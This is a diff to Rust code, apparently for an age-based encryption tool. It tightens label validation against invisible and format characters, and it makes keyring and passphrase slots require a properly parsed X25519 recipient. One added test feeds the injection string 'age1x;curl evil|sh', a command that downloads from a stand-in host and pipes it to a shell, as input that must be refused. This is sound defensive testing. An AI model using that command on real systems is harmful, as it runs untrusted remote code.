@@ -88,21 +88,32 @@ impl std::fmt::Display for LabelProblem {
     }
 }
 
-/// Characters a label may not hold: C0/C1 controls, and the format and
+/// Characters a label may not hold: C0/C1 controls, the format and
 /// separator characters that change how text around them is shown
 /// (bidirectional embeddings, overrides and isolates, zero-width
-/// characters, line and paragraph separators, the BOM).
+/// characters, line and paragraph separators, the BOM, tag characters),
+/// and characters that show as nothing (fillers, variation selectors, the
+/// blank braille pattern). Look-alike letters of other scripts are not
+/// caught: a label is a name, not an authentication.
 fn is_invisible(c: char) -> bool {
     c.is_control()
         || matches!(c,
             '\u{00AD}'
+            | '\u{034F}'
             | '\u{061C}'
-            | '\u{180E}'
+            | '\u{115F}'..='\u{1160}'
+            | '\u{17B4}'..='\u{17B5}'
+            | '\u{180B}'..='\u{180F}'
             | '\u{200B}'..='\u{200F}'
             | '\u{2028}'..='\u{202E}'
             | '\u{2060}'..='\u{206F}'
+            | '\u{2800}'
+            | '\u{3164}'
+            | '\u{FE00}'..='\u{FE0F}'
             | '\u{FEFF}'
-            | '\u{FFF9}'..='\u{FFFB}')
+            | '\u{FFA0}'
+            | '\u{FFF9}'..='\u{FFFB}'
+            | '\u{E0000}'..='\u{E0FFF}')
 }
 
 impl Label {
@@ -560,6 +571,13 @@ fn read_recipient(r: &mut Reader<'_>) -> Result<String, FormatError> {
     Ok(String::from_utf8_lossy(s).into_owned())
 }
 
+/// Whether `s` is an age X25519 recipient (`age1…`, Bech32, 32 bytes): what
+/// keyring and passphrase slots hold. Its text also names a keyring entry,
+/// so nothing else may pass.
+fn is_x25519_recipient(s: &str) -> bool {
+    s.parse::<age::x25519::Recipient>().is_ok()
+}
+
 fn read_age(r: &mut Reader<'_>) -> Result<Vec<u8>, FormatError> {
     r.key(b"age")?;
     let age = r.bytes(MAX_AGE_LEN)?;
@@ -595,7 +613,7 @@ fn read_slot(r: &mut Reader<'_>) -> Result<SlotV2, FormatError> {
     let kind = match code {
         KIND_KEYRING | KIND_RECIPIENT => {
             let recipient = read_recipient(r)?;
-            if code == KIND_KEYRING && !recipient.starts_with("age1") {
+            if code == KIND_KEYRING && !is_x25519_recipient(&recipient) {
                 return Err(FormatError::Corrupt(
                     "keyring slot without an X25519 recipient",
                 ));
@@ -612,7 +630,7 @@ fn read_slot(r: &mut Reader<'_>) -> Result<SlotV2, FormatError> {
         }
         KIND_PASSPHRASE => {
             let recipient = read_recipient(r)?;
-            if !recipient.starts_with("age1") {
+            if !is_x25519_recipient(&recipient) {
                 return Err(FormatError::Corrupt(
                     "passphrase slot without an X25519 recipient",
                 ));
@@ -840,6 +858,15 @@ pub(crate) mod tests {
             w.recipient = "ssh-ed25519 AAAA".into();
         }
         assert!(matches!(refused(&h), FormatError::Corrupt(_)));
+        // The recipient of a keyring slot names its keyring entry: only a
+        // real X25519 recipient passes, never text that merely starts so.
+        for bad in ["age1x;curl evil|sh", "age1", "age1qqqq"] {
+            let mut h = base.clone();
+            if let SlotKindV2::Keyring(w) = &mut h.keys.slots[0].kind {
+                w.recipient = bad.into();
+            }
+            assert!(matches!(refused(&h), FormatError::Corrupt(_)), "{bad}");
+        }
         let mut h = base;
         if let SlotKindV2::Passphrase { params, .. } = &mut h.keys.slots[1].kind {
             params.time = 17;
@@ -888,6 +915,10 @@ pub(crate) mod tests {
         assert_eq!(Label::parse("deadbeef"), Err(LabelProblem::LooksLikeId));
         assert!(Label::parse("deadbeef0").is_ok());
         for bad in [
+            "ci\u{E0020}",
+            "\u{3164}",
+            "a\u{FE0F}",
+            "a\u{2800}",
             "a\u{202E}b",
             "a\u{2066}b",
             "a\u{200B}b",
